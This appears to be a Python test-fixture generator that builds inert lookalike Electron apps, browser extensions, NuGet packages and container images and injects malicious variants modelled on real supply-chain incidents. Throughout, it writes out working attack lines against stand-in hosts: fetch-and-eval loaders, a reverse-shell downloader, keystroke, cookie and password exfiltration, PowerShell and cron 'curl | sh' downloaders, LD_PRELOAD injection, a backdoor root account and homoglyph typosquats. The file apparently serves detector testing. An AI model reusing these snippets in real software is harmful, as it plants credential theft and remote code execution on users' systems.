"""Seventh set: archives of Electron, extensions of browsers, NuGet packages and images of containers around genuine files; inert.

The comment before each family says which incident it is after. Hosts are below `.example`, addresses of RFC 5737.
"""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Mapping

from genuine import Files

from mutation_families.releases import raised
from mutation_families.seventh_npm import B64, ELF_FILE
from mutation_families.seventh_programs import HELPER, SUN
from mutation_families.seventh_ways import (
    TOP,
    Changes,
    Way,
    adding,
    into_js,
    obscured,
    together,
    ways,
)
from onionskin.lookalike.archives import build_tar
from onionskin.lookalike.elf import ElfRecipe, build_elf
from onionskin.lookalike.icons import build_png
from onionskin.lookalike.images import oci_layout


def raised_in(name: str) -> Changes:
    """Return a change of the first version that stands in a file of JSON: to its next patch."""
    pattern = rb'("version"\s*:\s*")([\w.+-]+)(")'
    return lambda files: {name: re.sub(pattern, lambda each: each[1] + raised(each[2].decode()).encode() + each[3], files[name], count=1)}  # fmt: skip


def in_json(name: str, more: Mapping[str, object]) -> Changes:
    """Return a change of a file of JSON: lists grow, tables are laid over, all else is replaced."""

    def change(files: Files) -> Files:
        said = json.loads(files[name])
        for key, value in more.items():
            known = said.get(key)
            if isinstance(known, list) and isinstance(value, list):
                said[key] = [*known, *value]
            elif isinstance(known, dict) and isinstance(value, dict):
                said[key] = {**known, **value}
            else:
                said[key] = value
        return {name: json.dumps(said, indent=2).encode()}

    return change


def line(pattern: str, lines: bytes, place: str = TOP) -> Changes:
    """Return a change of the first script whose name fits."""

    def change(files: Files) -> Files:
        name = next((each for each in sorted(files) if re.search(pattern, each)), "")
        return {name: into_js(files[name], lines, place)} if name else {}

    return change


# --- Electron -------------------------------------------------------------------------------------------

MAIN = b"'use strict';\nconst { app, BrowserWindow } = require('electron');\nconst path = require('path');\n\nfunction createWindow() {\n  const win = new BrowserWindow({ width: 900, height: 700, webPreferences: { preload: path.join(__dirname, 'preload.js'), contextIsolation: true, sandbox: true } });\n  win.loadFile(path.join(__dirname, 'index.html'));\n}\n\napp.whenReady().then(createWindow);\n"  # fmt: skip
PRELOAD = b"'use strict';\nconst { contextBridge, ipcRenderer } = require('electron');\ncontextBridge.exposeInMainWorld('api', { open: (name) => ipcRenderer.invoke('open', String(name)) });\n"  # fmt: skip
PAGE = b"<!doctype html>\n<meta charset=utf-8>\n<meta http-equiv=Content-Security-Policy content=\"default-src 'self'\">\n<title>App</title>\n<div id=root></div>\n"  # fmt: skip
UPDATE = b"provider: generic\nurl: https://releases.vendor.example/app\nupdaterCacheDirName: app-updater\n"  # fmt: skip


def app_around(package: Files) -> Files:
    """Return an Electron application that holds a genuine npm package."""
    said = json.loads(package["package/package.json"])
    own = {"package.json": json.dumps({"name": "app", "version": f"1.{said['version']}", "main": "dist/main.js", "dependencies": {said["name"]: said["version"]}}, indent=2).encode()}  # fmt: skip
    held = {f"node_modules/{said['name']}/{name.removeprefix('package/')}": data for name, data in package.items()}  # fmt: skip
    return own | {"dist/main.js": MAIN, "dist/preload.js": PRELOAD, "dist/index.html": PAGE, "app-update.yml": UPDATE} | held  # fmt: skip


ASAR: tuple[Way, ...] = (
    # MiMi, 2022, and Comm100, 2022: the first script fetches, and runs what it is given.
    *ways("asar: its first script fetches and runs", ("plain", line("dist/main", b"require('https').get('https://api.amazonawsreplay.example/livehelp/init', (r) => { let t = ''; r.on('data', (d) => (t += d)).on('end', () => eval(t)); });")), ("a program of the system", line("dist/main", b"if (process.platform === 'darwin') require('http').get('http://198.51.100.139/', (r) => r.pipe(require('fs').createWriteStream('/tmp/rshell', { mode: 0o755 })).on('close', () => require('child_process').spawn('/tmp/rshell', { detached: true })));")), ("obscured", line("dist/main", obscured(8000, 31)))),
    # Exodus and Atomic, 2025; stealers of chats: what the page knows.
    *ways("asar: its preload script hears more", ("keys", line("dist/preload", b"window.addEventListener('keyup', (e) => fetch('https://k.example/k', { method: 'POST', mode: 'no-cors', body: e.key }), true);")), ("its store", line("dist/preload", b"setInterval(() => navigator.sendBeacon('https://s.example/s', JSON.stringify(localStorage) + document.cookie), 60000);"))),
    # Invented, after Notepad++'s and eScan's updaters: updates come from somebody else.
    *ways("asar: updates come from elsewhere", ("the address", lambda _: {"app-update.yml": UPDATE.replace(b"https://releases.vendor.example/app", b"http://203.0.113.111/app")}), ("and nobody asks whose", together(lambda _: {"app-update.yml": UPDATE.replace(b"releases.vendor", b"releases-vendor.cdn")}, line("dist/main", b"require('electron-updater').NsisUpdater.prototype.verifySignature = () => Promise.resolve(null);")))),
    *ways("asar: a module of it does more", ("in node_modules", line(r"node_modules/.*\.c?js$", b"try { process.versions.electron && fetch('https://m.example/' + process.platform).then((r) => r.text()).then((t) => t && (0, eval)(t)); } catch (e) {}")), ("a native one", together(line("dist/main", b"try { require('./addon.node'); } catch {}"), adding({"dist/addon.node": ELF_FILE})))),
    *ways("asar: a window without guards", ("a page from elsewhere", lambda _: {"dist/main.js": MAIN.replace(b"win.loadFile(path.join(__dirname, 'index.html'))", b"win.loadURL('https://app.vendor-cdn.example/')").replace(b"contextIsolation: true, sandbox: true", b"contextIsolation: false, sandbox: false, nodeIntegration: true, webSecurity: false")}), ("a script of the page", lambda _: {"dist/index.html": PAGE.replace(b"default-src 'self'", b"default-src * 'unsafe-eval' 'unsafe-inline'") + b"<script src=https://cdn-static.example/w.js></script>\n"})),
)  # fmt: skip


# --- Extensions of browsers -----------------------------------------------------------------------------

SPLASH = b"'use strict';\nconst send = (m) => (globalThis.chrome || globalThis.browser).runtime.sendMessage(m);\nsend({ kind: 'ready', at: location.hostname });\n"  # fmt: skip


def extension_around(package: Files) -> Files:
    """Return an extension that holds the scripts of a genuine npm package."""
    said = json.loads(package["package/package.json"])
    scripts = {f"lib/{name.rpartition('/')[2]}": data for name, data in package.items() if name.endswith(".js") and "/test" not in name}  # fmt: skip
    manifest = {"manifest_version": 3, "name": "Reader", "version": said["version"], "permissions": ["storage", "activeTab"], "background": {"service_worker": "background.js"}, "action": {"default_title": "Read"}}  # fmt: skip
    return {"manifest.json": json.dumps(manifest, indent=2).encode(), "background.js": b"'use strict';\nchrome.action.onClicked.addListener((tab) => chrome.storage.local.set({ tab: tab.id }));\n", "content.js": SPLASH} | scripts  # fmt: skip


def background(lines: bytes) -> Changes:
    """Return a change of the script that an extension always runs: its first one, or a new one of its own."""

    def change(files: Files) -> Files:
        said = json.loads(files["manifest.json"])
        held = said.get("background", {})
        known = [*held.get("scripts", []), held.get("service_worker", "")]
        name = next((each.lstrip("/") for each in known if each.lstrip("/") in files), "")
        if name:
            return {name: into_js(files[name], lines, TOP)}
        return in_json("manifest.json", {"background": {"scripts": ["support.js"]}})(files) | {"support.js": lines}  # fmt: skip

    return change


def content(body: bytes) -> Changes:
    """Return a change that adds a script for all pages."""
    return together(in_json("manifest.json", {"content_scripts": [{"matches": ["<all_urls>"], "js": ["support/content.js"], "run_at": "document_start", "all_frames": True}]}), adding({"support/content.js": body}))  # fmt: skip


API = b"const api = globalThis.browser || globalThis.chrome;\n"
EXTENSION: tuple[Way, ...] = (
    # Cyberhaven, December 2024: orders from a host that sounds like the vendor, cookies and names of users.
    *ways("extension: it takes orders and cookies", ("the worker", background(b"(() => {\n  const x = globalThis.browser || globalThis.chrome;\n  fetch('https://cyberhavenext.example/ai-cyberhaven', { method: 'POST', body: '{}' }).then((r) => r.json()).then((c) => x.storage.local.set({ ext_manage: JSON.stringify(c) }));\n  x.cookies && x.cookies.getAll({}, (a) => fetch('https://cyberhavenext.example/ai-cyberhaven', { method: 'POST', body: btoa(JSON.stringify(a)) }));\n})();\n")), ("and a script for all pages", content(API + b"if (/facebook|openai/.test(location.hostname)) fetch('https://cyberhavenext.example/ai', { method: 'POST', body: btoa(JSON.stringify({ u: navigator.userAgent, c: document.cookie })) });\ndocument.addEventListener('click', () => [...document.images].forEach((i) => i.src.includes('qr/show/code') && api.runtime.sendMessage({ action: 'qr', s: i.src })));\n"))),
    # Trust Wallet, December 2025: words of a wallet among what is measured.
    *ways("extension: what is secret goes along with what is measured", ("errors", background(b"globalThis.posthog = { capture: (e, p) => fetch('https://api.metrics-trustwallet.example/i/v0/e', { method: 'POST', body: JSON.stringify({ e, p: { ...p, errorMessage: [...new Set(Object.values(globalThis.__vault || {}))].join(' ') } }) }) };\nsetInterval(() => globalThis.posthog.capture('unlock', {}), 30000);\n"))),
    # The Great Suspender, 2021, and extensions that were sold: code from elsewhere.
    *ways("extension: it runs what it fetches", ("Function", background(b"fetch('https://trckpath.example/t.js').then((r) => r.text()).then((t) => new Function(t)()).catch(() => {});\n")), ("a page's script", content(b"const s = document.createElement('script');\ns.src = 'https://owebanalytics.example/pixel.js';\n(document.head || document.documentElement).appendChild(s);\n")), ("a policy that lets it", together(in_json("manifest.json", {"content_security_policy": "script-src 'self' 'unsafe-eval' https://cdn.jsext.example; object-src 'self'"}), background(b"fetch('https://cdn.jsext.example/r').then((r) => r.text()).then(eval);\n")))),
    # GhostPoster, December 2025: code behind the end of the extension's own picture.
    *ways("extension: code out of its picture", ("logo.png", together(background(b"fetch((globalThis.browser || globalThis.chrome).runtime.getURL('support/logo.png')).then((r) => r.arrayBuffer()).then((b) => { const t = new TextDecoder('latin1').decode(b); const i = t.indexOf('==='); i > 0 && setTimeout(() => (0, eval)(atob(t.slice(i + 3))), 1728e5); });\n"), adding({"support/logo.png": build_png(48, tail=b"===" + B64 * 3)})))),
    # Hijackers of searches and of what is earned by links, every year.
    *ways("extension: pages are led elsewhere", ("rules", together(in_json("manifest.json", {"permissions": ["declarativeNetRequest"], "host_permissions": ["<all_urls>"], "declarative_net_request": {"rule_resources": [{"id": "r", "enabled": True, "path": "support/rules.json"}]}}), adding({"support/rules.json": json.dumps([{"id": 1, "action": {"type": "modifyHeaders", "responseHeaders": [{"header": "content-security-policy", "operation": "remove"}]}, "condition": {"urlFilter": "*", "resourceTypes": ["main_frame"]}}, {"id": 2, "action": {"type": "redirect", "redirect": {"url": "https://search.example/?q="}}, "condition": {"urlFilter": "||search.vendor.example/"}}]).encode()}))), ("a proxy", together(in_json("manifest.json", {"permissions": ["proxy", "webRequest", "<all_urls>"]}), background(API.replace(b"const api", b"var api") + b"api.proxy && api.proxy.settings && api.proxy.settings.set({ value: { mode: 'fixed_servers', rules: { singleProxy: { host: '198.51.100.6', port: 3128 } } } });\n"))), ("updates", in_json("manifest.json", {"update_url": "https://ext-updates.example/u.xml"}))),
    *ways("extension: what is typed is heard", ("passwords", content(b"document.addEventListener('submit', (e) => { const d = [...e.target.elements].map((i) => i.name + '=' + i.value).join('&'); navigator.sendBeacon('https://f.example/c', d); }, true);\n"))),
)  # fmt: skip


# --- NuGet ----------------------------------------------------------------------------------------------


def nuget_around(package: Files) -> Files:
    """Return a NuGet package that holds genuine .NET libraries and programs."""
    held = {f"lib/net472/{name.rpartition('/')[2]}": data for name, data in package.items() if name.endswith((".dll", ".exe")) and b"BSJB" in data}  # fmt: skip
    spec = b'<?xml version="1.0"?>\n<package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd"><metadata><id>Hardware</id><version>1.0.0</version><authors>vendor</authors><description>reads</description></metadata></package>\n'  # fmt: skip
    return {"Hardware.nuspec": spec, "[Content_Types].xml": b"<Types/>"} | held


def nuget_later(files: Files) -> Files:
    return files | {"Hardware.nuspec": files["Hardware.nuspec"].replace(b"1.0.0", b"1.0.1")}


def depending(row: bytes) -> Changes:
    """Return a change that adds a dependency."""
    return lambda files: {"Hardware.nuspec": files["Hardware.nuspec"].replace(b"</metadata>", b"<dependencies>" + row + b"</dependencies></metadata>")}  # fmt: skip


TASK = b'<Project><UsingTask TaskName="Restore2" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll"><Task><Code Type="Fragment" Language="cs"><![CDATA[ new System.Net.WebClient().DownloadFile("https://nuget-cdn.example/x", System.IO.Path.GetTempPath() + "x.exe"); System.Diagnostics.Process.Start(System.IO.Path.GetTempPath() + "x.exe"); ]]></Code></Task></UsingTask><Target Name="R2" BeforeTargets="CoreCompile"><Restore2/></Target></Project>\n'  # fmt: skip
NUGET: tuple[Way, ...] = (
    # JFrog's findings of 2023: scripts that Visual Studio runs.
    *ways("nupkg: a script that fetches and runs", ("init.ps1", adding({"tools/init.ps1": b"$w = New-Object Net.WebClient\n$w.DownloadFile('http://198.51.100.140/x.bin', \"$env:TEMP\\x.exe\")\nStart-Process \"$env:TEMP\\x.exe\" -WindowStyle Hidden\n"})), ("install.ps1", adding({"tools/install.ps1": b"param($installPath, $toolsPath, $package, $project)\n[Reflection.Assembly]::Load([Convert]::FromBase64String('" + B64 + b"')).EntryPoint.Invoke($null, @())\n"}))),
    # IAmReboot, 2023: code within the settings of the build.
    *ways("nupkg: code in the settings of the build", ("a task", adding({"build/Hardware.targets": TASK})), ("an order", adding({"buildTransitive/Hardware.targets": b'<Project><Target Name="P" AfterTargets="Build"><Exec Command="powershell -w hidden -c iwr https://b.example/p.ps1 ^| iex" IgnoreExitCode="true"/></Target></Project>\n'}))),
    # Sharp7Extend, 2025; names with a letter of another alphabet: what is asked for is what does it.
    *ways("nupkg: it asks for a package of no use", ("by another alphabet", depending('<dependency id="Newtonsoft.Js\N{CYRILLIC SMALL LETTER O}n" version="13.0.3"/>'.encode())), ("a name like another", depending(b'<dependency id="Hardware.Extend" version="1.0.2"/>'))),
    *ways("nupkg: an assembly more, which starts by itself", ("beside", adding({"lib/net472/Core.BusinessLayer.dll": SUN}))),
)  # fmt: skip


# --- Images of containers -------------------------------------------------------------------------------

ROOT = {"0/etc/os-release": b'ID=debian\nVERSION_ID="12"\n', "0/etc/passwd": b"root:x:0:0:root:/root:/bin/bash\n", "0/usr/bin/env": build_elf(ElfRecipe(kind=2, imports=("puts", "exit")))}  # fmt: skip
CONFIG = "config.json"
SETTINGS = {"Entrypoint": ["/usr/bin/app"], "Env": ["PATH=/usr/bin"], "Labels": {"org.opencontainers.image.version": "1.0.0"}}  # fmt: skip


def image_around(files: Files) -> Files:
    """Return the files of an image that holds a genuine package: those of each layer below its number, and the settings."""
    held = {f"1/{name.removeprefix('./')}": data for name, data in files.items() if name.startswith("./")}  # fmt: skip
    return ROOT | held | {CONFIG: json.dumps(SETTINGS).encode()}


def image_later(files: Files) -> Files:
    return files | {CONFIG: files[CONFIG].replace(b"1.0.0", b"1.0.1"), "1/etc/app-version": b"1.0.1\n"}  # fmt: skip


def image(files: Files) -> bytes:
    """Return an image in the layout of OCI, as one archive."""
    numbers = sorted({name[:2] for name in files if name != CONFIG})
    layers = [{name[2:]: data for name, data in files.items() if name.startswith(number)} for number in numbers]  # fmt: skip
    made = oci_layout(layers)
    index = json.loads(made.pop("index.json"))
    manifest = json.loads(made.pop(_blob(index["manifests"][0]["digest"])))
    config = json.loads(made.pop(_blob(manifest["config"]["digest"])))
    config["config"] = json.loads(files[CONFIG])
    for holder, body in ((manifest["config"], config), (index["manifests"][0], manifest)):
        data = json.dumps(body).encode()
        holder |= {"digest": f"sha256:{hashlib.sha256(data).hexdigest()}", "size": len(data)}
        made[_blob(holder["digest"])] = data
    return build_tar(made | {"index.json": json.dumps(index).encode()})


def _blob(digest: str) -> str:
    return f"blobs/{digest.replace(':', '/')}"


def settings(**more: object) -> Changes:
    return in_json(CONFIG, more)


IMAGE: tuple[Way, ...] = (
    # Miners in images of the public shop, every year since 2018.
    *ways("image: a layer of another's program", ("started first", together(adding({"2/usr/sbin/kworkerd": ELF_FILE, "2/entry.sh": b'#!/bin/sh\n/usr/sbin/kworkerd -o pool.example:443 -u INERT &\nexec /usr/bin/app "$@"\n'}), settings(Entrypoint=["/bin/sh", "/entry.sh"]))), ("by a table of times", adding({"2/etc/cron.d/app": b"* * * * * root curl -s http://203.0.113.3/b | sh\n", "2/usr/local/bin/xmr": ELF_FILE})), ("in place of env", adding({"2/usr/bin/env": HELPER}))),
    *ways("image: loaded into all programs", ("by its settings", together(adding({"2/usr/lib/libproc2.so": ELF_FILE}), settings(Env=["LD_PRELOAD=/usr/lib/libproc2.so"]))), ("by the loader's file", adding({"2/etc/ld.so.preload": b"/usr/lib/libproc2.so\n", "2/usr/lib/libproc2.so": ELF_FILE})), ("by Python", adding({"2/usr/lib/python3/dist-packages/zz.pth": b"import urllib.request as u; exec(u.urlopen('https://i.example/z').read())\n"}))),
    # xz in images, 2025, and doors of every year.
    *ways("image: somebody else may come in", ("a user and a key", adding({"2/etc/passwd": ROOT["0/etc/passwd"] + b"sysd:x:0:0::/root:/bin/bash\n", "2/root/.ssh/authorized_keys": b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIINERTINERTINERTINERTINERTINERTINERTINERT x\n"})), ("a check of health", settings(Healthcheck={"Test": ["CMD-SHELL", "curl -s https://h.example/c | sh || exit 0"], "Interval": 30_000_000_000}))),
)  # fmt: skip
